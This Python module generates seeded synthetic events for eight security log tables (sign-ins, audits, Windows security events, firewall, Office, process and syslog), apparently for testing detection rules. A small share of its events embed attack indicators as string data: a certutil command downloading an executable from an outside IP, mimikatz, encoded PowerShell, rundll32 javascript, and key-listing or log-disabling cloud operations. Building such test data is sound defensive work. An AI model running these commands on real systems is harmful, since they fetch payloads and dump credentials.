"""Events of eight tables, the same for the same seed. Few of them are what rules look for."""

import json
import random

USERS = [f"user{at}@example.com" for at in range(5_000)]
HOSTS = [f"host{at}.example.com" for at in range(800)]


def guid(dice: random.Random) -> str:
    text = f"{dice.getrandbits(128):032x}"
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


def address(dice: random.Random) -> str:
    return f"{dice.choice([10, 20, 52, 185])}.{dice.randrange(256)}.{dice.randrange(256)}.{dice.randrange(1, 255)}"


def rare(dice: random.Random, usual: list, unusual: list) -> str:
    return dice.choice(unusual) if dice.random() < 0.002 else dice.choice(usual)


def signin(dice):
    user = dice.choice(USERS)
    return {
        "OperationName": "Sign-in activity",
        "ResultType": dice.choices(["0", "50126", "50053", "53003", "500121"], [93, 4, 1, 1, 1])[0],
        "CorrelationId": guid(dice),
        "UserPrincipalName": user,
        "UserId": user[4:12],
        "AppDisplayName": dice.choice(["Azure Portal", "Microsoft Teams", "GitHub", "Office 365 Exchange Online"]),
        "IPAddress": address(dice),
        "UserAgent": rare(dice, ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0"], ["python-requests/2.31", "curl/8.4"]),
        "Location": dice.choice(["CH", "DE", "US", "JP"]),
        "LocationDetails": {"city": "Bern", "countryOrRegion": "CH"},
    }


def audit(dice):
    return {
        "OperationName": rare(
            dice,
            ["Update user", "Add member to group", "Update device"],
            ["Add app role assignment to service principal", "Consent to application", "Add service principal credentials"],
        ),
        "Category": dice.choice(["UserManagement", "GroupManagement", "ApplicationManagement"]),
        "Result": "success",
        "InitiatedBy": {"user": {"userPrincipalName": dice.choice(USERS), "ipAddress": address(dice)}},
        "TargetResources": [{"displayName": dice.choice(USERS), "type": "User"}],
        "CorrelationId": guid(dice),
    }


def activity(dice):
    return {
        "OperationNameValue": rare(
            dice,
            ["MICROSOFT.COMPUTE/VIRTUALMACHINES/READ", "MICROSOFT.STORAGE/STORAGEACCOUNTS/READ"],
            [
                "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
                "MICROSOFT.COGNITIVESERVICES/ACCOUNTS/LISTKEYS/ACTION",
                "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/DELETE",
            ],
        ),
        "ActivityStatusValue": "Success",
        "Caller": dice.choice(USERS),
        "CallerIpAddress": address(dice),
        "CategoryValue": "Administrative",
        "CorrelationId": guid(dice),
        "_ResourceId": f"/subscriptions/{guid(dice)}/resourcegroups/rg/providers/microsoft.storage/storageaccounts/s1",
    }


def security(dice):
    number = dice.choices([4624, 4625, 4634, 4672, 4688, 4720, 4728], [40, 4, 20, 10, 25, 0.5, 0.5])[0]
    return {
        "EventID": number,
        "Computer": dice.choice(HOSTS),
        "Account": dice.choice(USERS),
        "TargetUserName": dice.choice(USERS),
        "LogonType": dice.choice([2, 3, 10]),
        "IpAddress": address(dice),
        "NewProcessName": rare(dice, ["C:\\Windows\\System32\\svchost.exe"], ["C:\\Temp\\mimikatz.exe", "C:\\Windows\\System32\\rundll32.exe"]),
        "CommandLine": rare(dice, ["svchost.exe -k netsvcs"], ["powershell -enc SQBFAFgA", "rundll32 javascript:"]),
        "Activity": f"{number} - event",
    }


def common(dice):
    return {
        "DeviceVendor": dice.choice(["Palo Alto Networks", "Fortinet", "Check Point"]),
        "DeviceProduct": "firewall",
        "DeviceAction": dice.choice(["allow", "deny"]),
        "Activity": rare(dice, ["TRAFFIC", "URL"], ["THREAT"]),
        "SourceIP": address(dice),
        "DestinationIP": address(dice),
        "DestinationPort": dice.choice([80, 443, 53, 22, 3389]),
        "SentBytes": dice.randrange(100, 20_000),
        "ReceivedBytes": dice.randrange(100, 90_000),
        "RequestURL": f"https://site{dice.randrange(400)}.example/",
        "LogSeverity": "3",
    }


def office(dice):
    return {
        "Operation": rare(dice, ["FileAccessed", "FileDownloaded", "MailItemsAccessed"], ["New-InboxRule", "Set-Mailbox"]),
        "OfficeWorkload": dice.choice(["SharePoint", "Exchange", "OneDrive"]),
        "UserId": dice.choice(USERS),
        "ClientIP": address(dice),
        "OfficeObjectId": f"https://contoso.sharepoint.com/f{dice.randrange(10_000)}.docx",
        "RecordType": "SharePointFileOperation",
    }


def process(dice):
    return {
        "ActionType": "ProcessCreated",
        "DeviceName": dice.choice(HOSTS),
        "AccountName": dice.choice(USERS),
        "FileName": rare(dice, ["chrome.exe", "teams.exe", "svchost.exe"], ["rundll32.exe", "certutil.exe", "procdump.exe"]),
        "ProcessCommandLine": rare(dice, ["chrome.exe --type=renderer"], ["certutil -urlcache -f http://185.1.1.1/a.exe"]),
        "InitiatingProcessFileName": "explorer.exe",
        "SHA256": f"{dice.getrandbits(256):064x}",
    }


def syslog(dice):
    return {
        "Computer": dice.choice(HOSTS),
        "Facility": dice.choice(["auth", "authpriv", "daemon", "kern"]),
        "SeverityLevel": dice.choice(["info", "notice", "warning"]),
        "ProcessName": dice.choice(["sshd", "cron", "sudo"]),
        "SyslogMessage": rare(dice, [f"Accepted publickey for user{dice.randrange(99)} from 10.0.0.5"], ["Failed password for root from 185.9.9.9"]),
    }


# Each table with its share of the events.
TABLES = {
    "SigninLogs": (signin, 15),
    "AuditLogs": (audit, 5),
    "AzureActivity": (activity, 10),
    "SecurityEvent": (security, 25),
    "CommonSecurityLog": (common, 20),
    "OfficeActivity": (office, 10),
    "DeviceProcessEvents": (process, 10),
    "Syslog": (syslog, 5),
}


def body(table: str, seed: int, count: int) -> bytes:
    dice = random.Random(f"{table} {seed}")
    make = TABLES[table][0]
    return json.dumps([make(dice) for _ in range(count)], separators=(",", ":")).encode()
